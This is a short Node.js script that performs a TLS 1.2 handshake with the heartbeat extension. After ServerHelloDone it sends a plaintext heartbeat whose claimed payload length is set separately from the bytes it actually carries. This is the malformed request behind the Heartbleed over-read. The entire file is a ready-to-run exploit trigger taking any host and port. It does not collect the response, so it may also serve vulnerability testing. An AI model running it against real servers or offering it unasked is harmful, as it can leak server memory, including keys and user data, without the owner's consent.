// Begins a TLS 1.2 handshake with the heartbeat extension (RFC 6520), and once the server has said ServerHelloDone sends a heartbeat
// request in the clear. Options (JSON): host, port, claimed = its payload_length, payload = how many bytes it really brings.
import { connect } from 'node:net'

const { host, port, claimed, payload } = JSON.parse(process.argv[2])
const be16 = (value) => [value >> 8, value & 255]
const sized = (bytes) => [...be16(bytes.length), ...bytes]
const extension = (type, body) => [...be16(type), ...sized(body)]
const record = (type, body) => Buffer.from([type, 3, 1, ...sized(body)])

const suites = [0xc0, 0x2f, 0x00, 0x2f]
const extensions = [
  ...extension(10, sized([0, 23])),
  ...extension(11, [1, 0]),
  ...extension(13, sized([4, 1, 4, 3])),
  ...extension(15, [1]),
]
const hello = [3, 3, ...Array.from({ length: 32 }, (_, n) => n + 1), 0, ...sized(suites), 1, 0, ...sized(extensions)]
const socket = connect({ host, port, noDelay: true })
socket.write(record(22, [1, 0, ...sized(hello)]))

/** Type and length of ServerHelloDone: the server's first flight ends with them. */
const DONE = '0e000000'
let heard = ''
let asked = false
socket.on('data', (bytes) => {
  heard += bytes.toString('hex')
  if (asked || !heard.endsWith(DONE)) return
  asked = true
  const padding = new Array(claimed > payload ? 0 : 16).fill(0)
  socket.write(record(24, [1, ...be16(claimed), ...new Array(payload).fill(0x61), ...padding]))
  setTimeout(() => socket.end(), 300)
})
socket.on('error', () => {})
socket.on('close', () => process.exit(0))
